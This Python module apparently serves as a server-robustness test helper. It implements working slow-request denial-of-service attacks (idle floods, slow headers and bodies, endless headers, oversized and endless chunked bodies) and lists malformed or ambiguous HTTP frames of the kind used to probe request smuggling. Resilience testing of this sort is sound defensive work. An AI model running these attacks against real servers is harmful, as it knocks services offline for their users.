"""Attacks on a server over real sockets. Each is a context: while it is open, the attack goes on."""

import contextlib
import itertools
import resource
import socket
import threading
from collections.abc import Callable, Iterator, Sequence

Address = tuple[str, int]


@contextlib.contextmanager
def _open(address: Address, count: int, first: bytes) -> Iterator[list[socket.socket]]:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    connections = []
    try:
        for _ in range(count):
            connection = socket.create_connection(address, timeout=30)
            connections.append(connection)
            with contextlib.suppress(OSError):
                connection.sendall(first)
        yield connections
    finally:
        for connection in connections:
            connection.close()


@contextlib.contextmanager
def _going_on(send: Callable[[], None]) -> Iterator[None]:
    """Calls `send` again and again."""
    over = threading.Event()

    def work() -> None:
        while not over.wait(0.02):
            send()

    thread = threading.Thread(target=work)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


def idle(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    """A thousand connections that send nothing."""
    return _open(address, 1000, b"")


@contextlib.contextmanager
def _trickle(address: Address, count: int, first: bytes, part: bytes) -> Iterator[None]:
    with _open(address, count, first) as connections:
        turns = itertools.cycle(connections)

        def send() -> None:
            for connection in itertools.islice(turns, 50):
                with contextlib.suppress(OSError):
                    connection.settimeout(0.01)
                    connection.send(part)

        with _going_on(send):
            yield


def slow_head(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    return _trickle(address, 300, b"POST %s HTTP/1.1\r\nHost: x\r\n" % path.encode(), b"A: b\r\n")


def slow_body(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    head = b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n" % path.encode()
    return _trickle(address, 300, head, b" ")


def endless_head(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    return _trickle(address, 50, b"GET %s HTTP/1.1\r\nX: " % path.encode(), b"a" * 2**16)


def huge_body(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    head = b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n" % path.encode()
    return _trickle(address, 50, head, b"a" * 2**16)


def endless_chunks(address: Address, path: str) -> contextlib.AbstractContextManager[object]:
    head = b"POST %s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" % path.encode()
    return _trickle(address, 50, head, b"10000\r\n" + b"a" * 2**16 + b"\r\n")


ATTACKS = (idle, slow_head, slow_body, endless_head, huge_body, endless_chunks)

#: requests that are none, or that two readers would understand differently
BAD_FRAMES: Sequence[bytes] = (
    b"\0\1\2\3\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET /\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1e3\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: " + b"9" * 40 + b"\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\n bad: folded\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nbad header\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 10_000 + b"\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
)


def answer_to(address: Address, data: bytes) -> bytes:
    """What the server answers to these bytes, until it closes the connection or its client does after them."""
    with socket.create_connection(address, timeout=60) as connection:
        with contextlib.suppress(OSError):
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
        found = b""
        with contextlib.suppress(ConnectionResetError):
            while part := connection.recv(2**16):
                found += part
        return found
